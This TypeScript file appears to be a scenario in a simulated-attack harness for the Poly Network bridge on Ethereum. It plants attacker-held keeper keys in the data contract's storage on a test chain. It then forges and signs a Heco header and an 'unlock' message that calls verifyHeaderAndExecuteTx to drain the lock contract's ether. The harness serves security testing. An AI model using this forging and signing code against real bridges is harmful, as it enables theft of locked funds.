import { encodeFunctionData, keccak256, parseAbi, sha256, toHex } from 'viem'
import { privateKeyToAccount, sign } from 'viem/accounts'
import type { Address, Hex } from '../../../src/model/hex.ts'
import { type Move, type OnState, plant } from './attack.ts'

const MANAGER: Address = '0x838bf9e95cb12dd76a54c9f9d2e3082eaf928270'
const DATA: Address = '0xcf2afe102057ba5c16f899271045a0a37fcb10f2'
const LOCK: Address = '0x250e76987d838a75310c34bf422ea9f1ac4cc906'
/** The other side of the bridge on Heco, as the lock knows it. */
const HECO = { chainId: 10n, proxy: '0x34d4a23a1fc0c694f0d74ddaf9d8d564cfe2d430' } as const
const ETHEREUM = 2n

/** Keepers whose keys the attacker has. */
const keepers = [1, 2, 3].map((i) => keccak256(toHex(`a stolen keeper of ours ${i}`)))
/** Where the data contract keeps the bytes that name its keepers. */
const KEEPERS_SLOT = 3n

/** Poly Network on Ethereum. */
export const stolenKeepers: OnState = {
  id: 'stolen-keepers',
  kind: 'bridge',
  state: 'PolyNetworkBridge',
  protect: [LOCK],
  purse: { holder: LOCK, token: null, symbol: 'ETH', decimals: 18 },
  planted: 'the bridge’s keepers: three of four, as many as must sign, are keys of the attacker',
  deed: 'an account sends a header that the stolen keys signed, with a message of Heco’s bridge that releases ether to it',
  async prepare({ rpc }, attacker) {
    const bytes = joined(
      little(4n, 8),
      ...keepers.map((key) => variable(privateKeyToAccount(key).address)),
      variable(`0x${'f4'.repeat(20)}`),
    )
    await plantBytes(rpc, bytes)
    const locked = BigInt(String(await rpc.request('eth_getBalance', [LOCK, 'latest'])))
    return {
      attack: await release(attacker, { amount: (locked * 992n) / 1_000n, id: 1n }),
      again: await release(attacker, { amount: (locked * 6n) / 1_000n, id: 2n }),
    }
  },
}

async function plantBytes(rpc: Parameters<typeof plant>[0], bytes: Hex): Promise<void> {
  const size = (bytes.length - 2) / 2
  await plant(rpc, DATA, KEEPERS_SLOT, BigInt(size) * 2n + 1n)
  const first = BigInt(keccak256(toHex(KEEPERS_SLOT, { size: 32 })))
  for (let at = 0; at * 32 < size; at++) {
    const part = bytes.slice(2 + at * 64, 2 + (at + 1) * 64).padEnd(64, '0')
    await plant(rpc, DATA, first + BigInt(at), BigInt(`0x${part}`))
  }
}

/** A release of ether as Poly’s chain writes it: a message, its place in a header’s tree (it is the only leaf), and signatures. */
async function release(to: Address, { amount, id }: { amount: bigint; id: bigint }): Promise<Move> {
  const args = joined(variable(`0x${'00'.repeat(20)}`), variable(to), little(amount, 32))
  const message = joined(
    variable(toHex(id, { size: 32 })),
    little(HECO.chainId, 8),
    ...[variable('0x00'), variable('0x00'), variable(HECO.proxy), little(ETHEREUM, 8), variable(LOCK)],
    ...[variable(toHex('unlock')), variable(args)],
  )
  const empty: Hex = `0x${'00'.repeat(32)}`
  const header = joined(
    ...[little(0n, 4), little(0n, 8), empty, empty, sha256(joined('0x00', message)), empty],
    ...[
      little(0n, 4),
      little(1_000_000_000n, 4),
      little(1n, 8),
      variable('0x00'),
      `0x${'00'.repeat(20)}` as Hex,
    ],
  )
  const hash = sha256(sha256(sha256(header)))
  const signatures = await Promise.all(keepers.map((privateKey) => sign({ hash, privateKey })))
  const signed = joined(
    ...signatures.flatMap(({ r, s, yParity }) => [r, s, toHex(yParity ?? 0, { size: 1 })]),
  )
  const data = encodeFunctionData({
    abi: parseAbi(['function verifyHeaderAndExecuteTx(bytes,bytes,bytes,bytes,bytes) returns (bool)']),
    args: [variable(message), header, '0x', '0x', signed],
  })
  return { to: MANAGER, data, value: 0n }
}

const joined = (...parts: readonly Hex[]): Hex => `0x${parts.map((part) => part.slice(2)).join('')}`
const variable = (bytes: Hex): Hex => joined(toHex((bytes.length - 2) / 2, { size: 1 }), bytes)
const little = (value: bigint, size: number): Hex =>
  `0x${(toHex(value, { size }).slice(2).match(/../g) ?? []).reverse().join('')}`
